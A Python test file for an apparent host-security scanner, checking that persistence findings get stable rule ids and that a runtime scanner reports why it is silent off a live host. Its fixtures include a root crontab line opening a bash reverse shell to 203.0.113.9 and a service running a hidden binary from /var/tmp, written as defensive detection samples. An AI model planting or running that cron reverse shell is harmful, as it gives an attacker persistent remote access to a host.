"""Persistence findings carry stable rule ids (a `.venv` is no hidden folder); runtime says why it is silent off the live host."""

from __future__ import annotations

from pathlib import Path

from hostwarden.core.records import ecs_records
from hostwarden.scan.base import ScanContext
from hostwarden.scan.persistence import PersistenceScanner
from hostwarden.scan.runtime import RuntimeScanner


def test_persistence_rule_ids_and_a_venv_is_not_a_hidden_folder(tmp_path: Path) -> None:
    files = {
        "etc/systemd/system/api.service": "[Service]\nExecStart=/srv/api/.venv/bin/gunicorn app:app\n",
        "etc/systemd/system/sysupdate.service":
            "[Service]\nExecStart=/var/tmp/.sysupdate/sysupdate --config=/var/tmp/.sysupdate/c.json\n",
        "var/spool/cron/crontabs/root": "0 * * * * /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4443 0>&1'\n",
    }
    for rel, text in files.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text)
    found = {f["file.path"]: f["rule.id"] for f in ecs_records(PersistenceScanner().scan(ScanContext(root=tmp_path)))}
    assert found == {"/etc/systemd/system/sysupdate.service": "persistence.tmp_binary",
                     "/var/spool/cron/crontabs/root": "persistence.reverse_shell"}


def test_runtime_off_the_live_host_says_so(tmp_path: Path) -> None:
    ctx = ScanContext(root=tmp_path, live=False)
    scanner = RuntimeScanner()
    assert ecs_records(scanner.scan(ctx)) == []
    assert scanner.summary["live"] is False
    (notice,) = ctx.notices
    assert notice["code"] == "SCAN-9204" and notice["scanner"] == "runtime" and str(tmp_path) in notice["message"]
